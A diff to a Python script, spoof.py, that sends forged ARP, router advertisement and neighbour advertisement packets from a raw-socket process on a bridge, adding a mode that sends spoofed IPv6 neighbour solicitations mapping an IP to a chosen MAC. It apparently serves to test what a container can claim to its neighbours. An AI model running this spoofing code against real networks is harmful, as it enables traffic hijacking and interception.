@@ -1,4 +1,4 @@
-# spoof.py arp IP | frame MAC | ra | na IP
+# spoof.py arp IP | frame MAC | ra | na IP | ns IP MAC
 #
 # What a process with CAP_NET_RAW on a bridge can claim to its
 # neighbours, each written straight onto eth0:
@@ -8,6 +8,8 @@
 # ra: a router advertisement to all nodes (we are a default router).
 # na: an unsolicited, overriding neighbour advertisement saying IP is at
 # eth0's address.
+# ns: a neighbour solicitation for IP from our own address, saying that
+# is at MAC.
 import socket, struct, sys
 
 mode = sys.argv[1]
@@ -28,7 +30,13 @@ else:
     s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0')
     s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
     s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
-    lladdr = bytes([1 if mode == 'ra' else 2, 1]) + mine
+    lladdr = bytes([2 if mode == 'na' else 1, 1]) + mine
+    if mode == 'ns':
+        lladdr = lladdr[:2] + bytes.fromhex(sys.argv[3].replace(':', ''))
+        target = socket.inet_pton(socket.AF_INET6, sys.argv[2])
+        solicited = socket.inet_ntop(socket.AF_INET6, bytes.fromhex('ff0200000000000000000001ff') + target[13:])
+        s.sendto(struct.pack('!BBHI', 135, 0, 0, 0) + target + lladdr, (solicited, 0, 0, socket.if_nametoindex('eth0')))
+        sys.exit()
     if mode == 'ra':
         # hop limit 64, no flags, router lifetime 1800 s
         msg = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0) + lladdr
